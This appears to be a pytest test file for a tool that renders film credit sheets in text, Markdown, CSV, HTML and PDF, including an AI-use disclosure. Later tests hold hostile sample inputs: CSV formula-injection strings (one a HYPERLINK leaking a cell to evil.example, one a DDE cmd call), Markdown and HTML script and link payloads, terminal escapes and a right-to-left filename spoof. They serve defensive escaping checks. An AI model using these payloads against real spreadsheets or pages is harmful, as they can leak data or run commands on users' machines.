"""Each format of the credit sheet: golden files for the text ones, the PDF read back with pypdf."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from markdown_it import MarkdownIt
from pypdf import PdfReader

from provenance.credits.formats import CSV_COLUMNS, render_csv, render_html, render_json, render_md, render_txt
from provenance.credits.lock import LockedSheet, SheetStatus
from provenance.credits.pdf import render_pdf
from provenance.credits.sheet import CreditGap, ModelUseFact, ProductionInfo, build_credit_sheet
from provenance.errors import MissingFontError
from provenance.fonts import FONT_VARIABLE
from provenance.plain_text import printable

from .conftest import assert_golden
from .test_credits import fact, sample_sheet

GAP = CreditGap(
    background="harbor/C013", stage_kind="revise", stage_id="0123abcd-0000-0000-0000-000000000000", role="BG_RETOUCH"
)


@pytest.mark.parametrize(
    ("renderer", "golden"),
    [
        (render_txt, "credits.txt"),
        (render_md, "credits.md"),
        (render_csv, "credits.csv"),
        (render_json, "credits.json"),
        (render_html, "credits.html"),
    ],
)
def test_golden(renderer, golden: str) -> None:  # type: ignore[no-untyped-def]
    assert_golden(golden, renderer(sample_sheet()))


def test_gaps_are_marked_in_every_text_format() -> None:
    sheet = sample_sheet(gaps=[GAP])
    for renderer in (render_txt, render_md, render_html):
        assert "UNNAMED: revise on harbor/C013 (stage 0123abcd)" in renderer(sheet)
    rows = list(csv.DictReader(io.StringIO(render_csv(sheet))))
    assert [row["block"] for row in rows if row["block"] == "gap"] == ["gap"]


def test_csv_has_the_post_house_columns_and_keeps_ai_out_of_names() -> None:
    rows = list(csv.DictReader(io.StringIO(render_csv(sample_sheet()))))
    assert list(rows[0]) == CSV_COLUMNS
    assert [row["order"] for row in rows] == [str(n) for n in range(1, len(rows) + 1)]
    credited = [row for row in rows if row["block"] == "credits"]
    assert ("Tanaka Aiko", "田中 愛子", "Harbor Studio") in [
        (r["name_en"], r["name_ja"], r["company"]) for r in credited
    ]
    assert all("tiny" not in row["name_en"] for row in credited)
    assert rows[-1]["block"] == "ai_disclosure"


def test_html_is_one_self_contained_page_with_an_end_roll() -> None:
    page = render_html(sample_sheet())
    assert page.startswith("<!DOCTYPE html>") and 'id="roll"' in page and "@keyframes crawl" in page
    assert "http://" not in page and "https://" not in page and "<script" not in page
    assert "背景加筆・修正" in page and "鈴木 蓮（スタジオ雲）" in page


def test_pdf_embeds_the_shipped_japanese_font_and_its_text_can_be_searched(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(FONT_VARIABLE, raising=False)
    status = SheetStatus(exported_at=datetime(2026, 11, 24, tzinfo=UTC), studio="Harbor Studio")
    data = render_pdf(sample_sheet(), status)
    reader = PdfReader(io.BytesIO(data))
    text = "\n".join(page.extract_text() for page in reader.pages)
    for expected in (
        "Harbor Lights",
        "背景原図：田中 愛子（ハーバースタジオ）",
        "鈴木 蓮",
        "AI使用について",
        "Background Layout",
    ):
        assert expected in text
    fonts = [font.get_object() for page in reader.pages for font in page["/Resources"]["/Font"].values()]
    descendants = [f["/DescendantFonts"][0].get_object() for f in fonts if "/DescendantFonts" in f]
    assert descendants and all("/FontFile2" in d["/FontDescriptor"] for d in descendants)
    assert {str(d["/BaseFont"]).split("+")[-1] for d in descendants} == {"IPAexGothic"}


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_pdf_says_studio_export_date_and_whether_it_is_the_locked_sheet() -> None:
    """A printed sheet travels without the database: it must say who exported it, when, and if it is final."""
    sheet = sample_sheet()
    exported = datetime(2026, 11, 24, 9, 30, tzinfo=UTC)
    lock = LockedSheet(
        scope="harbor",
        locked_by="yamada-hanako",
        locked_at=datetime(2026, 11, 20, 17, 0, tzinfo=UTC),
        sheet=sheet,
        locked_by_name="Yamada Hanako",
        locked_by_native="山田 花子",
    )
    draft = pdf_text(render_pdf(sheet, SheetStatus(exported_at=exported, studio="Harbor Studio")))
    assert "Harbor Lights" in draft and "港の灯り" in draft
    assert "Studio: Harbor Studio" in draft and "Exported: 2026-11-24 09:30 UTC" in draft
    assert "Draft: not locked" in draft and "下書き（未確定）" in draft and "Locked by" not in draft

    locked = render_pdf(sheet, SheetStatus(exported_at=exported, studio="Harbor Studio", lock=lock))
    text = pdf_text(locked)
    assert "Locked by Yamada Hanako on 2026-11-20" in text and "確定（2026-11-20 山田 花子）" in text
    assert "Draft" not in text
    assert PdfReader(io.BytesIO(locked)).metadata["/Subject"] == "Locked by Yamada Hanako on 2026-11-20"

    changed = pdf_text(render_pdf(sheet, SheetStatus(exported_at=exported, studio=None, lock=lock, changed=True)))
    assert "Draft: changed since locked by Yamada Hanako on 2026-11-20" in changed
    assert "Studio: —" in changed


def test_pdf_with_a_bad_font_override_says_so(monkeypatch: pytest.MonkeyPatch, tmp_path) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setenv(FONT_VARIABLE, str(tmp_path / "missing.ttf"))
    with pytest.raises(MissingFontError, match="is not a file"):
        render_pdf(sample_sheet())


def hostile_sheet(  # type: ignore[no-untyped-def]
    names: list[str],
    *,
    title: str = "Harbor Lights",
    native_title: str = "港の灯り",
    studio: str | None = "Harbor Studio",
    model: str = "tiny",
    license: str | None = None,
):
    """A sheet as an old or hand-edited database could give it: one BG_ARTIST credit per name."""
    production = ProductionInfo(handle="harbor", title=title, native_title=native_title, studio=studio)
    contributions = [fact("BG_ARTIST", f"p{index}", name, name) for index, name in enumerate(names)]
    use = ModelUseFact(
        name=model, version=None, fingerprint="f" * 64, test_model=False, license=license,
        stage_kind="ai_generate", background_id=1,
    )  # fmt: skip
    return build_credit_sheet(production, "harbor", 1, contributions, [use])


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+81 3 1234 5678",
    "-Kimu-",
    "@SUM(A1:A9)",
    "\tTab First",
    "\rCarriage First",
]


def test_csv_cells_a_spreadsheet_would_run_are_text() -> None:
    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_sheet(FORMULAS)))))
    names = [row["name_en"] for row in rows if row["block"] == "credits"]
    # Credits are ordered by name; the neutralised cell is the name behind a quote, hidden characters escaped.
    assert sorted(names) == sorted("'" + printable(name) for name in FORMULAS)
    assert all(name.startswith("'") for name in names)
    assert [row["order"] for row in rows] == [str(n) for n in range(1, len(rows) + 1)]


def test_csv_keeps_ordinary_cells_as_they_are() -> None:
    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_sheet(["Tanaka Aiko", "O'Brien", "5 = 5"])))))
    assert sorted(row["name_en"] for row in rows if row["block"] == "credits") == ["5 = 5", "O'Brien", "Tanaka Aiko"]


def test_txt_gives_every_value_its_own_line_even_from_an_old_database() -> None:
    forged = ["Eve\nBackground Art    Mallory", "Trudy\r\nArt Director    Oscar", "\x1b[2JWalter"]
    text = render_txt(hostile_sheet(forged))
    ordinary = render_txt(hostile_sheet(["Eve", "Trudy", "Walter"]))
    assert len(text.splitlines()) == len(ordinary.splitlines())
    assert "\x1b" not in text and "\r" not in text
    assert not any(
        line.startswith(("Background Art    Mallory", "Art Director    Oscar")) for line in text.splitlines()
    )
    assert "Eve\\nBackground Art    Mallory" in text


MARKDOWN_HOSTILE = [
    "*Bold* Name",
    "_Under_ Score",
    "[click](http://evil.example)",
    "![pixel](http://evil.example/p.png)",
    "<script>alert(1)</script>",
    "<b>Big</b> Name",
    "`code` Name",
    "a | b",
    "&#x202e;reversed",
    "&amp; Co",
    "~~Struck~~",
    "back\\slash\\",
    "# Heading",
    "- Item",
    "+ Item",
    "1. Item",
    "2) Item",
    "> Quote",
    "=== Setext",
    "Eve\n| FAKE | ROW |",
    "$x^2$",
]


def _inline_texts(source: str, after: str) -> list[tuple[list[str], str]]:
    """(children's token types, their text) of every inline token that follows a token of type ``after``."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(source)
    return [
        ([child.type for child in token.children or []], "".join(child.content for child in token.children or []))
        for previous, token in zip(tokens, tokens[1:], strict=False)
        if previous.type == after and token.type == "inline"
    ]


def test_markdown_renders_every_value_as_exactly_its_text() -> None:
    # Read back by a CommonMark parser with GFM tables: no link, emphasis, HTML, code, row or list appears.
    text = render_md(hostile_sheet(MARKDOWN_HOSTILE))
    cells = _inline_texts(text, "td_open")
    assert len(cells) == 4 * len(MARKDOWN_HOSTILE)  # one row of four cells per name, no forged row
    name_cells = [cells[index] for index in range(2, len(cells), 4)]
    assert all(types == ["text"] for types, _ in name_cells)
    assert sorted(content for _, content in name_cells) == sorted(printable(name) for name in MARKDOWN_HOSTILE)


@pytest.mark.parametrize("value", ["Harbor #", "*Harbor*", "<i>Harbor</i>", "[Harbor](http://x)", "`Harbor`"])
def test_markdown_title_and_disclosure_stay_literal(value: str) -> None:
    sheet = hostile_sheet(["Tanaka Aiko"], title=value, native_title=value, studio=None, model=value, license=value)
    text = render_md(sheet)
    heading_types, heading = _inline_texts(text, "heading_open")[0]
    assert heading_types == ["text"] and heading == value
    paragraphs = _inline_texts(text, "paragraph_open")
    assert paragraphs[0] == (["em_open", "text", "em_close"], value)  # the native title, in our italics
    [(types, disclosure)] = [paragraph for paragraph in paragraphs if paragraph[1].startswith("AI disclosure:")]
    assert types == ["text"]
    assert f"{value} was used for" in disclosure and f"license: {value}" in disclosure


def test_html_shows_hidden_characters_as_escapes() -> None:
    page = render_html(hostile_sheet(["Mallory\u202egnp.exe", "Eve\x1b[2J"]))
    assert "\u202e" not in page and "\x1b" not in page
    assert "Mallory\\u202egnp.exe" in page and "Eve\\x1b[2J" in page
